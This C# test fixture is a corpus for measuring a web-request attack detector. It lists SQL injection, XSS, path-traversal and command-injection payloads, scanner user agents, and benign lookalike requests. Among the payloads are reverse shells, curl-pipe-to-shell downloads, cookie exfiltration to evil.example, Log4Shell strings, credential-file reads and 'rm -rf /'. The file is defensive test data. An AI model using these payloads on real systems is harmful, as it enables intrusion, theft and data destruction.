using OpsRunbook.Core.Logs;

namespace OpsRunbook.Core.Tests.Logs;

/// <summary>
/// The corpus Find-OpsSuspiciousRequest is measured on (written for these tests): attack payloads per category,
/// and benign requests that look like attacks (and ordinary traffic). A payload that does not start with '/' is
/// sent as a query value (/search?q=...), URL-encoded as a browser would; one that starts with '/' is the path as sent.
/// </summary>
public static class AttackCorpus
{
    public static readonly (AttackCategory Category, string Payload)[] Attacks =
    [
        .. Cat(AttackCategory.SqlInjection,
            "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "admin' #", "admin'/*", "' or 1=1#", "') or ('1'='1", "1 OR 1=1",
            "1' AND 1=2 UNION SELECT 1,2,3--", "1 UNION ALL SELECT NULL,NULL,NULL--", "-1 UNION SELECT username, password FROM users",
            "1' UNION/**/SELECT/**/password/**/FROM/**/users--", "1 UnIoN SeLeCt 1,@@version", "' AND SLEEP(5)--", "1; WAITFOR DELAY '0:0:5'--",
            "1' AND BENCHMARK(5000000,MD5(1))--", "'; DROP TABLE users;--", "1; DELETE FROM orders WHERE 1=1", "1'; INSERT INTO users (name) VALUES ('x')--",
            "1; UPDATE users SET role='admin'--", "' UNION SELECT table_name FROM information_schema.tables--", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
            "' AND extractvalue(1,concat(0x7e,version()))--", "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)--", "1 ORDER BY 10--", "' OR 'x'='x",
            "' or ''='", "1' or '1'='1' /*", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "' OR EXISTS(SELECT * FROM users)--", "1 AND 1=1", "1 and 3>2",
            "1 || 1=1", "'||(select pg_sleep(5))||'", "1;SELECT pg_sleep(10)", "' UNION SELECT load_file('/etc/passwd')--", "' INTO OUTFILE '/var/www/shell.php'--",
            "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "'; EXEC xp_cmdshell('dir')--", "1 HAVING 1=1", "SELECT * FROM users",
            "select name, password from users where id=1", "' or true--", "') OR 1=1 --", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "' OR 1=1 LIMIT 1 --",
            "admin\") or (\"1\"=\"1", "1' and 'a'='a", "' UNION SELECT NULL, version()--", "' AND 1=CONVERT(int,(SELECT @@version))--",
            "1' AND (SELECT 1 FROM sqlite_master)--", "' OR username LIKE 'adm%", "1%27%20OR%20%271%27%3D%271", "1%2527%2520OR%25201%253D1--",
            "%u0027 OR 1=1--", "1'/**/OR/**/1=1#", "1' oR '1'='1", "10 or 1=1", "' or 1 in (select @@version)--", "1 and user()=user()"),
        .. Cat(AttackCategory.Xss,
            "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.domain)>",
            "<body onload=alert('xss')>", "<iframe src=\"javascript:alert(1)\">", "javascript:alert(document.cookie)", "<a href=\"javascript:void(0)\">x</a>",
            "\"><script>alert(String.fromCharCode(88,83,83))</script>", "'><img src=1 onerror=prompt(1)>", "<div style=\"width:expression(alert(1))\">",
            "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>", "<marquee onstart=alert(1)>",
            "<video><source onerror=\"alert(1)\">", "<audio src=x onerror=alert(1)>", "<body background=\"javascript:alert(1)\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<svg/onload=alert(1)>", "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=\"x\" onmouseover=\"alert(1)\">", "<form action=javascript:alert(1)><input type=submit>",
            "<base href=\"javascript:alert(1)//\">", "<link rel=stylesheet href=javascript:alert(1)>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>", "document.location='http://evil.example/?c='+document.cookie", "<script>eval(atob('YWxlcnQoMSk='))</script>",
            "vbscript:msgbox(1)", "<textarea autofocus onfocus=alert(1)>", "<select onchange=alert(1)>", "<img src=x onerror=\"window.location='http://evil.example'\">",
            "<svg><script>alert&#40;1&#41;</script>", "<isindex type=image src=1 onerror=alert(1)>", "<x onclick=alert(1)>click", "alert`1`",
            "<body onpageshow=alert(1)>", "\"><svg/onload=confirm(1)>", "<sCrIpT/src=//evil.example>", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<%00script>alert(1)</script>", "<scr<!-- -->ipt>alert(1)</script>"),
        .. Cat(AttackCategory.PathTraversal,
            "/download?file=../../../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/....//....//etc/passwd", "/files?name=..\\..\\..\\windows\\win.ini",
            "/static/../../../etc/shadow", "/..;/admin", "/images/..%252f..%252fetc/passwd", "/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd", "/proc/self/environ",
            "/.git/config", "/.env", "/.htaccess", "/WEB-INF/web.xml", "/.ssh/id_rsa", "/.aws/credentials", "/view?f=file:///etc/passwd",
            "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/index.php?page=php://input", "/index.php?page=expect://id",
            "/index.php?page=zip://archive.zip%23shell.php", "/index.php?page=phar://uploads/avatar.jpg", "/boot.ini",
            "/read?path=c:\\windows\\system32\\drivers\\etc\\hosts", "/..%c0%af../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/.bash_history", "/.svn/entries",
            "/.docker/config.json", "/proc/1/cmdline", "/var/www/../../etc/group", "/..%5c..%5c..%5cwindows%5cwin.ini", "/api/files?path=/etc/hosts",
            "/page?include=../../../../../etc/issue", "/?page=php://filter/resource=/etc/passwd", "/index.php?file=data://text/plain;base64,PD9waHAgc3lzdGVtKCk7Pz4=",
            "/download?f=..%00/etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/app/..%2f..%2fconfig/database.yml", "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL",
            "/api/export?template=..\\..\\..\\..\\boot.ini", "/.htpasswd", "/%252e%252e/%252e%252e/etc/passwd", "/logs?file=....//....//....//etc/passwd",
            "/img?src=%2e%2e%5c%2e%2e%5cwin.ini", "/api/v1/../../../etc/sudoers", "/proc/self/fd/0", "/download?file=%2fetc%2fshadow",
            "/x?f=/windows/system32/config/sam"),
        .. Cat(AttackCategory.CommandInjection,
            "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "`id`", "$(whoami)", ";ls -la", "127.0.0.1; ping -c 3 evil.example",
            "127.0.0.1 | nc evil.example 4444 -e /bin/sh", "; wget http://evil.example/x.sh -O /tmp/x.sh", "; curl http://evil.example/x.sh | sh",
            "$(curl http://evil.example)", ";bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "|/bin/sh -c id", "; rm -rf /", ";echo vulnerable", "&& sleep 10",
            "| powershell -enc SQBFAFgA", "cmd.exe /c dir", ";${IFS}cat${IFS}/etc/passwd", ";{cat,/etc/passwd}", "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/x}", "; python -c 'import os;os.system(\"id\")'", "| perl -e 'print 1'", "; chmod +x /tmp/x", "`sleep 5`",
            "$(sleep 5)", "; nslookup evil.example", ";base64 -d <<< aWQ=", "; kill -9 1", "& ping -n 3 127.0.0.1", "/bin/cat /etc/shadow",
            "; telnet evil.example 23", ";sudo su", "|| ifconfig", "; nohup ./x &", "; php -r 'system(\"id\");'", "ls${IFS}-la", "%3Bid", "%7C%7Cwhoami",
            "%26%26cat%20/etc/passwd", "test;/usr/bin/id", "a`whoami`b", "x$(id)y", "; ncat -e /bin/bash evil.example 9001", "|| curl evil.example|bash"),
    ];

    /// <summary>Scanner user agents (sent with an ordinary request).</summary>
    public static readonly string[] ScannerAgents =
    [
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:007140)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "gobuster/3.6", "feroxbuster/2.10.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Acunetix-Product",
        "Mozilla/5.0 (compatible; Netsparker)", "Mozilla/5.0 (compatible; Nessus)", "OpenVAS-VT", "w3af.org", "Arachni/v1.5.1", "Havij", "WhatWeb/0.5.5",
        "Wfuzz/3.1.0", "Fuzz Faster U Fool v2.1.0", "ZmEu", "Morfeus Fucking Scanner", "commix/v3.8-stable", "Mozilla/5.0 SF/2.08b (skipfish)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Mozilla/5.0 (compatible; Jorgee)", "XSStrike", "DotDotPwn v3.0.2",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    ];

    /// <summary>Requests that must not fire: lookalikes of attacks, then ordinary traffic.</summary>
    public static readonly string[] Benign =
    [
        // Lookalikes.
        "/docs/union-station", "/search?q=union+station", "/api/items?select=name", "/api/products?select=name,price&order=asc", "/authors/O'Brien",
        "/search?q=it's", "/search?q=it%27s+a+trap", "/search?q=O%27Brien+or+Smith", "/search?q=%3C3", "/search?q=<3", "/search?q=a+or+b", "/search?q=a%20or%20b",
        "/search?q=this+and+that", "/search?q=1+or+2", "/search?q=drop+shipping", "/search?q=drop+table+legs", "/search?q=select+a+dress+from+the+shop",
        "/search?q=where+is+the+script+for+the+play", "/search?q=SELECT+statement+tutorial", "/search?q=how+to+use+order+by+in+sql",
        "/search?q=%27hello%27+or+%27world%27", "/search?q=%22foo%22+and+2+more", "/search?q=McDonald%27s+or+Burger+King", "/search?q=rock+%27n%27+roll",
        "/search?q=don%27t+stop+me+now", "/search?q=%22quoted+phrase%22", "/search?q=1%3D1", "/search?q=cats+%26+dogs", "/search?q=tom+%26+jerry",
        "/search?q=ls+-la+explained", "/search?q=cat+pictures", "/search?q=rm+-rf+meaning", "/search?q=echo+chamber", "/search?q=sleep+tracker",
        "/search?q=alert+me+when+in+stock", "/search?q=javascript+tutorial", "/search?q=JavaScript%3A+The+Good+Parts", "/search?q=%24(document).ready",
        "/search?q=%24HOME+directory", "/search?q=100%25+cotton", "/search?q=c%2B%2B", "/search?q=%23hashtag", "/search?q=%23include+%3Cstdio.h%3E",
        "/search?q=a%3Cb", "/search?q=x+%3C+y+%3E+z", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/search?q=email+me+at+a%40b.com", "/search?q=what+is+a+pipe+%7C+in+bash",
        "/search?q=a+%7C%7C+b", "/search?q=cat+%7C+grep", "/search?q=tips%3B+tricks", "/search?q=100%27s+of+songs", "/search?q=rock%26roll",
        "/search?q=where+name+is+bob", "/search?q=select+from+list", "/search?q=insert+coin", "/search?q=update+my+address", "/search?q=delete+account",
        "/search?q=sql+injection+prevention", "/search?q=xss+cheat+sheet+explained", "/search?q=path+traversal+definition", "/search?q=what+does+%27or%27+mean",
        "/search?q=union+jack+flag", "/search?q=selection+from+the+menu", "/search?q=benchmark+results+2024", "/search?q=exec+summary",
        "/search?q=passwd+reset+help", "/search?q=etc+etc", "/search?q=....", "/search?q=wait...what", "/search?q=id+card", "/search?q=whoami+song",
        "/search?q=curl+vs+wget", "/search?q=python+or+perl", "/search?q=bash+or+zsh", "/search?q=ping+pong+table", "/search?q=nc+state+university",
        "/api/users?where=name%3D%27bob%27", "/api/items?filter=price%3E100+and+price%3C200", "/api/reports?range=1..10", "/api/hooks?onload=true",
        "/api/users?fields=select,from,where", "/api/orders?sort=-created_at", "/api/items?q=%22union%22", "/api/tags?name=script", "/api/tags?name=onerror",
        "/api/pages?title=Alert%20Systems", "/api/docs?topic=eval+order", "/api/v1/sleep-data?days=5", "/api/files/report-2024..2025.csv",
        "/api/notes?text=Tom%27s+%22best%22+idea", "/api/search?q=%27%27", "/api/search?q=%27", "/api/search?q=%22", "/api/search?q=--", "/api/search?q=%23",
        "/api/search?q=%3B", "/api/search?q=1+and+2", "/api/search?q=x%3D1+or+y", "/api/search?q=from+me+to+you", "/api/search?q=or+else",
        "/blog/how-to-use-alert-boxes", "/blog/the-onload-event", "/blog/why-you-should-not-use-eval", "/blog/what-is-%7C%7C-in-js", "/blog/c++-vs-rust",
        "/blog/select-the-right-database", "/blog/union-busting-history", "/blog/drop-the-ball", "/blog/my-passwd-manager", "/blog/etc-and-so-on",
        "/tag/sql-injection-prevention", "/tag/xss", "/docs/security/path-traversal", "/docs/script-tags", "/docs/iframe-embedding", "/docs/svg-icons",
        "/docs/onerror-handling", "/docs/javascript-void", "/docs/shell/pipes-and-redirects", "/docs/bin/sh-compat", "/docs/proc-filesystem",
        "/docs/env-vars", "/docs/git-config", "/docs/v1.2.3/changelog", "/docs/api/select", "/docs/api/union-types", "/docs/api/or-operator",
        "/wiki/C_Sharp_(programming_language)", "/wiki/Semicolon", "/wiki/O%27Hare_International_Airport", "/wiki/AT%26T", "/wiki/Rock_%27n%27_roll",
        "/static/img/script.js", "/js/scripts/main.js", "/assets/iframe-resizer.min.js", "/img/svg/logo.svg", "/static/app.3f2a1b.js", "/fonts/etc.woff2",
        "/.well-known/acme-challenge/abc123", "/.well-known/security.txt", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/manifest.json",
        "/shop/cat-food", "/shop/id-bracelets", "/shop/curling-stones", "/shop/bash-guitar-strings", "/shop/ping-pong", "/shop/sleep-masks",
        "/users/select", "/users/union", "/users/or", "/users/and", "/users/alert", "/users/script-kiddie", "/users/dot.dot", "/users/..hidden",
        "/search?q=Mr.+O%27Neil", "/search?q=L%27Or%C3%A9al", "/search?q=caf%C3%A9", "/search?q=%E2%9C%93+done", "/search?q=%F0%9F%98%80",
        "/search?q=equals%3D%3D", "/search?q=2%2B2%3D4", "/search?q=5%3E3", "/search?q=%28a%29", "/search?q=%7Bjson%7D", "/search?q=%5Barray%5D",
        "/search?q=back%5Cslash", "/search?q=tilde~home", "/search?q=%60code%60", "/search?q=%24100", "/search?q=%26amp%3B",
        // Ordinary traffic.
        "/", "/api/health", "/api/login", "/api/logout", "/metrics", "/api/webhooks/stripe", "/api/media/123", "/api/media/550e8400-e29b-41d4-a716-446655440000",
        "/api/users/42/avatar", "/api/orders?status=open&page=2", "/api/v1/users?sort=name&limit=50", "/api/search?q=blue+shoes&size=42",
        "/api/media/456?width=200&height=200", "/api/jobs/507f1f77bcf86cd799439011", "/api/queue/stats", "/api/payments/intent?amount=1999&currency=eur",
        "/api/auth/refresh", "/api/users/me", "/api/notifications?unread=true", "/api/feed?cursor=eyJpZCI6MTB9", "/api/upload?name=holiday.jpg",
        "/api/export?format=csv&from=2026-01-01&to=2026-01-31", "/api/stats?period=7d", "/api/comments?post=17&order=desc", "/api/locales/en-US.json",
        "/login?next=%2Fdashboard", "/dashboard", "/settings/profile", "/settings/security", "/help/faq", "/about", "/contact", "/pricing",
        "/static/css/site.css?v=12", "/static/js/vendor.js", "/images/logo@2x.png", "/video/intro.mp4?t=30", "/download/app-1.4.2.dmg",
        "/oauth/callback?code=abc123&state=xyz", "/reset-password?token=3f9a8b7c6d", "/verify-email?token=Zm9vYmFy", "/unsubscribe?id=8812",
        "/search?q=running+shoes", "/search?q=red+dress&sort=price", "/search?q=iphone+15+case", "/search?q=laptop%20stand", "/search?q=coffee+grinder",
    ];

    private static IEnumerable<(AttackCategory, string)> Cat(AttackCategory c, params string[] payloads) => payloads.Select(p => (c, p));

    /// <summary>The request target an attacker would send for a payload.</summary>
    public static string Target(string payload) => payload.StartsWith('/') ? payload.Replace(" ", "%20") : "/search?q=" + Uri.EscapeDataString(payload);
}
